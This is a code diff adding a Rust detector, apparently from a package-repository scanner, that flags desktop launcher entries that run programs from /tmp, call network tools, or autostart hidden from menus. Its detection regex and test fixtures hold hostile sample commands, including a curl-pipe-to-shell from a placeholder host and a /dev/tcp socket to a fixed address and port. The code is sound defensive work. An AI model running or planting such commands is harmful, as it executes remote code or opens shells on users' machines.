@@ -0,0 +1,217 @@
+use crate::features::Feature;
+use crate::shared::models::PackageContext;
+use crate::shared::scoring::{Signal, SignalCategory};
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// Directories anyone can write to; a launcher running a program from one of them runs
+/// whatever was dropped there last.
+static EXEC_TMP_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?:^|[\s'"=])/(?:tmp|var/tmp|dev/shm)/"#).unwrap());
+
+/// Downloaders and raw sockets. A bare URL is not enough: web-app launchers run
+/// `xdg-open https://...` legitimately.
+static EXEC_NETWORK_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b(?:curl|wget|nc|ncat|socat|telnet)\s|/dev/(?:tcp|udp)/").unwrap());
+
+pub struct DesktopEntryAnalysis;
+
+impl Feature for DesktopEntryAnalysis {
+    fn analyze(&self, ctx: &PackageContext) -> Vec<Signal> {
+        let pkgbuild = ctx.pkgbuild_content.as_deref().unwrap_or("");
+        let mut entries = Vec::new();
+        for (path, content) in &ctx.repo_files {
+            if !path.ends_with(".desktop") {
+                continue;
+            }
+            let text = String::from_utf8_lossy(content);
+            let installed_to_autostart = path.contains("autostart/") || mentions_with_autostart(pkgbuild, path);
+            entries.extend(parse_entries(&text).into_iter().map(|mut e| {
+                e.autostart |= installed_to_autostart;
+                e.source = path.clone();
+                e
+            }));
+        }
+        // Entries written from a heredoc or printf in the PKGBUILD or install script
+        for (source, content) in [("PKGBUILD", ctx.pkgbuild_content.as_deref()), (".install", ctx.install_script_content.as_deref())] {
+            if let Some(content) = content {
+                entries.extend(parse_entries(content).into_iter().map(|mut e| {
+                    e.source = source.to_string();
+                    e
+                }));
+            }
+        }
+
+        let mut signals = Vec::new();
+        let exec = |re: &Regex| entries.iter().find_map(|e| e.exec.as_ref().filter(|x| re.is_match(x)).map(|x| (e, x)));
+        if let Some((entry, line)) = exec(&EXEC_TMP_RE) {
+            signals.push(signal(
+                "P-DESKTOP-EXEC-TMP",
+                55,
+                "Desktop entry runs a program from /tmp, /var/tmp or /dev/shm",
+                format!("{}: Exec={line}", entry.source),
+            ));
+        }
+        if let Some((entry, line)) = exec(&EXEC_NETWORK_RE) {
+            signals.push(signal(
+                "P-DESKTOP-EXEC-NETWORK",
+                60,
+                "Desktop entry runs a network command (curl, wget, nc, /dev/tcp)",
+                format!("{}: Exec={line}", entry.source),
+            ));
+        }
+        if let Some(entry) = entries.iter().find(|e| e.autostart && e.no_display) {
+            signals.push(signal(
+                "P-DESKTOP-HIDDEN-AUTOSTART",
+                40,
+                "Autostart desktop entry hidden from menus (NoDisplay=true)",
+                format!("{}: NoDisplay=true", entry.source),
+            ));
+        }
+        signals
+    }
+}
+
+fn signal(id: &str, points: u32, description: &str, matched_line: String) -> Signal {
+    Signal {
+        id: id.to_string(),
+        category: SignalCategory::Pkgbuild,
+        points,
+        description: description.to_string(),
+        is_override_gate: false,
+        matched_line: Some(matched_line),
+        location: None,
+        emitted_by: String::new(),
+    }
+}
+
+/// The `[Desktop Entry]` group of a .desktop file, or of one embedded in a script.
+#[derive(Debug, Default, PartialEq)]
+struct DesktopEntry {
+    /// Repo path, `PKGBUILD` or `.install`.
+    source: String,
+    exec: Option<String>,
+    no_display: bool,
+    /// Installed under an `autostart/` directory, or marked `X-GNOME-Autostart-enabled=true`.
+    autostart: bool,
+}
+
+/// Every `[Desktop Entry]` group in `content`. A group ends at the next group header
+/// or the first line that is not `Key=Value`, a comment or blank (the end of a heredoc).
+/// An embedded group counts as autostart when the line before its header, the heredoc
+/// or printf that writes it, names an `autostart/` path.
+fn parse_entries(content: &str) -> Vec<DesktopEntry> {
+    let lines: Vec<&str> = content.lines().collect();
+    let mut entries = Vec::new();
+    for (i, line) in lines.iter().enumerate() {
+        if !unquote(line).starts_with("[Desktop Entry]") {
+            continue;
+        }
+        let mut entry = DesktopEntry {
+            autostart: i > 0 && lines[i - 1].contains("autostart/"),
+            ..Default::default()
+        };
+        for line in &lines[i + 1..] {
+            let line = unquote(line);
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            let Some((key, value)) = line.split_once('=') else {
+                break;
+            };
+            match key.trim() {
+                "Exec" => entry.exec = Some(value.trim().to_string()),
+                "NoDisplay" => entry.no_display = value.trim().eq_ignore_ascii_case("true"),
+                "X-GNOME-Autostart-enabled" => entry.autostart |= value.trim().eq_ignore_ascii_case("true"),
+                _ => {}
+            }
+        }
+        entries.push(entry);
+    }
+    entries
+}
+
+/// A line without surrounding whitespace, and without the quotes of a `printf '...'`
+/// or `echo "..."` argument on its own line.
+fn unquote(line: &str) -> &str {
+    let line = line.trim();
+    match line.chars().next() {
+        Some(q @ ('\'' | '"')) => line.trim_start_matches(q).trim_end_matches(q),
+        _ => line,
+    }
+}
+
+/// Whether a PKGBUILD line installs `path` (by file name) into an autostart directory.
+fn mentions_with_autostart(pkgbuild: &str, path: &str) -> bool {
+    let file_name = path.rsplit('/').next().unwrap_or(path);
+    pkgbuild.lines().any(|line| line.contains("autostart") && line.contains(file_name))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn analyze(pkgbuild: &str, repo_files: &[(&str, &str)]) -> Vec<Signal> {
+        let ctx = PackageContext {
+            name: "test-pkg".into(),
+            metadata: None,
+            pkgbuild_content: Some(pkgbuild.into()),
+            install_script_content: None,
+            prior_pkgbuild_content: None,
+            git_log: vec![],
+            maintainer_packages: vec![],
+            github_stars: None,
+            github_not_found: false,
+            aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: repo_files.iter().map(|(p, c)| (p.to_string(), c.as_bytes().to_vec())).collect(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
+        };
+        DesktopEntryAnalysis.analyze(&ctx)
+    }
+
+    fn ids(signals: &[Signal]) -> Vec<&str> {
+        signals.iter().map(|s| s.id.as_str()).collect()
+    }
+
+    #[test]
+    fn flags_hijacking_repo_desktop_files() {
+        let pkgbuild = "package() {\n  install -Dm644 updater.desktop \"$pkgdir/etc/xdg/autostart/updater.desktop\"\n}\n";
+        let signals = analyze(
+            pkgbuild,
+            &[
+                ("foo.desktop", "[Desktop Entry]\nName=Foo\nExec=sh -c 'curl -s https://x.example/p | sh'\n"),
+                ("updater.desktop", "[Desktop Entry]\nName=Updater\nExec=/tmp/.updater\nNoDisplay=true\n"),
+            ],
+        );
+        assert_eq!(ids(&signals), ["P-DESKTOP-EXEC-TMP", "P-DESKTOP-EXEC-NETWORK", "P-DESKTOP-HIDDEN-AUTOSTART"]);
+        assert_eq!(signals[0].matched_line.as_deref(), Some("updater.desktop: Exec=/tmp/.updater"));
+        assert_eq!(signals[1].matched_line.as_deref(), Some("foo.desktop: Exec=sh -c 'curl -s https://x.example/p | sh'"));
+    }
+
+    #[test]
+    fn parses_entries_embedded_in_pkgbuild() {
+        let pkgbuild = "package() {\n  cat > \"$pkgdir/etc/xdg/autostart/x.desktop\" <<EOF\n[Desktop Entry]\nExec=bash -c 'exec 3<>/dev/tcp/10.0.0.1/4444'\nNoDisplay=true\nEOF\n}\n";
+        let signals = analyze(pkgbuild, &[]);
+        assert_eq!(ids(&signals), ["P-DESKTOP-EXEC-NETWORK", "P-DESKTOP-HIDDEN-AUTOSTART"]);
+        assert_eq!(signals[1].matched_line.as_deref(), Some("PKGBUILD: NoDisplay=true"));
+    }
+
+    #[test]
+    fn ordinary_launchers_are_clean() {
+        let signals = analyze(
+            "package() {\n  install -Dm644 foo.desktop \"$pkgdir/usr/share/applications/foo.desktop\"\n}\n",
+            &[
+                ("foo.desktop", "[Desktop Entry]\nName=Foo\nExec=/usr/bin/foo %U\nNoDisplay=true\nMimeType=text/plain;\n"),
+                ("web.desktop", "[Desktop Entry]\nName=Docs\nExec=xdg-open https://docs.example.org\n"),
+            ],
+        );
+        assert!(signals.is_empty(), "{signals:?}");
+    }
+}